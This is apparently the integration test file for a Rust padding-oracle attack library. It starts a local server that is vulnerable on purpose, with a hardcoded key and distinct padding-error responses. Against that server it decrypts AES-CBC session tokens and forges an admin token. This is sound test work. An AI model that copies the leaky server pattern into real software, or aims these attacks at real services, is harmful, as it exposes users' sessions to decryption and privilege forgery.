use poattack::{
    analyse_responses, padding_oracle_decrypt, padding_oracle_encrypt, pkcs7_unpad,
    DecryptOptions, EncryptOptions, HttpTransport, OracleCaller, OracleConfig, PayloadEncoder,
    PayloadEncoding, Predicate, RequestTemplate,
};

use aes::{
    cipher::{block_padding::Pkcs7, BlockDecryptMut, BlockEncryptMut, KeyIvInit},
    Aes128,
};
use axum::{
    extract::Query,
    http::StatusCode,
    response::IntoResponse,
    routing::{get, post},
    Json, Router,
};
use base64::{engine::general_purpose::URL_SAFE, Engine};
use reqwest::Method;
use tokio::net::TcpListener;

use std::{collections::HashMap, time::Duration};

type Aes128CbcEnc = cbc::Encryptor<Aes128>;
type Aes128CbcDec = cbc::Decryptor<Aes128>;

const KEY: [u8; 16] = *b"YELLOW SUBMARINE";
const BLOCK_SIZE: usize = 16;

fn encrypt(iv: &[u8; 16], plaintext: &[u8]) -> Vec<u8> {
    let mut out = iv.to_vec();
    out.extend(
        Aes128CbcEnc::new(&KEY.into(), iv.into()).encrypt_padded_vec_mut::<Pkcs7>(plaintext),
    );
    out
}

fn decrypt(payload: &[u8]) -> Option<Vec<u8>> {
    if payload.len() < 2 * BLOCK_SIZE || payload.len() % BLOCK_SIZE != 0 {
        return None;
    }
    let (iv, ciphertext) = payload.split_at(BLOCK_SIZE);
    Aes128CbcDec::new(&KEY.into(), iv.into())
        .decrypt_padded_vec_mut::<Pkcs7>(ciphertext)
        .ok()
}

fn check(payload: Option<Vec<u8>>) -> impl IntoResponse {
    match payload.as_deref().and_then(decrypt) {
        Some(_) => (StatusCode::OK, "Welcome back"),
        None => (StatusCode::INTERNAL_SERVER_ERROR, "Invalid padding"),
    }
}

async fn check_query(Query(params): Query<HashMap<String, String>>) -> impl IntoResponse {
    check(params.get("token").and_then(|t| hex::decode(t).ok()))
}

async fn check_json(Json(body): Json<HashMap<String, String>>) -> impl IntoResponse {
    check(body.get("token").and_then(|t| URL_SAFE.decode(t).ok()))
}

async fn spawn_server() -> String {
    let app = Router::new()
        .route("/check", get(check_query))
        .route("/api/session", post(check_json));
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        axum::serve(listener, app).await.unwrap();
    });
    format!("http://{}", addr)
}

fn query_oracle(address: &str, config: OracleConfig) -> OracleCaller<HttpTransport> {
    let template = RequestTemplate::new(format!("{address}/check?token="));
    let transport =
        HttpTransport::new(template, PayloadEncoder::default(), Duration::from_secs(10)).unwrap();
    OracleCaller::new(transport, config)
}

fn config(concurrency: usize) -> OracleConfig {
    OracleConfig {
        concurrency,
        ..OracleConfig::default()
    }
}

#[tokio::test]
async fn decrypts_aes_cbc_over_http() {
    let address = spawn_server().await;
    let message = b"user=alice;role=guest;expires=1700000000";
    let ciphertext = encrypt(&[7u8; 16], message);
    let oracle = query_oracle(&address, config(32));
    let predicate = Predicate::parse("200").unwrap();

    let mut plaintext = padding_oracle_decrypt(
        &oracle,
        &predicate,
        &ciphertext,
        &DecryptOptions::new(BLOCK_SIZE),
    )
    .await
    .unwrap();

    pkcs7_unpad(&mut plaintext).unwrap();
    assert_eq!(plaintext, message);
    let stats = oracle.stats();
    assert_eq!(stats.failed_count, 0);
    assert!(stats.request_count > 0);
    assert!(stats.average_time().is_some());
}

#[tokio::test]
async fn forged_ciphertext_is_accepted_by_the_server() {
    let address = spawn_server().await;
    let oracle = query_oracle(&address, config(32));
    let predicate = Predicate::parse("e:Invalid padding").unwrap();

    let ciphertext = padding_oracle_encrypt(
        &oracle,
        &predicate,
        b"user=mallory;role=admin",
        &EncryptOptions::new(BLOCK_SIZE),
    )
    .await
    .unwrap();

    assert_eq!(decrypt(&ciphertext).unwrap(), b"user=mallory;role=admin");
}

#[tokio::test]
async fn payload_goes_where_the_marker_is() {
    let address = spawn_server().await;
    let template = RequestTemplate::new(format!("{address}/api/session"))
        .with_method(Method::POST)
        .with_raw_header("Content-Type: application/json")
        .unwrap()
        .with_body(r#"{"token": "{POPAYLOAD}"}"#);
    let encoder = PayloadEncoder::new(PayloadEncoding::Base64UrlSafe, false);
    let transport = HttpTransport::new(template, encoder, Duration::from_secs(10)).unwrap();
    let oracle = OracleCaller::new(transport, config(16));
    let predicate = Predicate::parse("s:Welcome").unwrap();
    let ciphertext = encrypt(&[0x42; 16], b"short");

    let mut plaintext = padding_oracle_decrypt(
        &oracle,
        &predicate,
        &ciphertext,
        &DecryptOptions::new(BLOCK_SIZE),
    )
    .await
    .unwrap();

    pkcs7_unpad(&mut plaintext).unwrap();
    assert_eq!(plaintext, b"short");
}

#[tokio::test]
async fn survey_shows_two_kinds_of_response() {
    let address = spawn_server().await;
    let oracle = query_oracle(&address, config(64));

    let analysis = analyse_responses(&oracle, BLOCK_SIZE, None).await.unwrap();

    assert_eq!(analysis.responses.len(), 256);
    assert!(!analysis.is_uniform());
    assert!(analysis.status_codes.contains_key(&200));
    assert!(analysis.status_codes.contains_key(&500));
}

#[tokio::test]
async fn unreachable_target_is_a_transport_error() {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = format!("http://{}", listener.local_addr().unwrap());
    drop(listener);
    let oracle = query_oracle(
        &address,
        OracleConfig {
            concurrency: 4,
            max_retries: 1,
            retry_backoff: Duration::from_millis(1),
            ..OracleConfig::default()
        },
    );
    let predicate = Predicate::parse("200").unwrap();

    let result = padding_oracle_decrypt(
        &oracle,
        &predicate,
        &encrypt(&[1u8; 16], b"never seen"),
        &DecryptOptions::new(BLOCK_SIZE),
    )
    .await;

    assert!(result.is_err());
    assert!(oracle.stats().failed_count > 0);
}
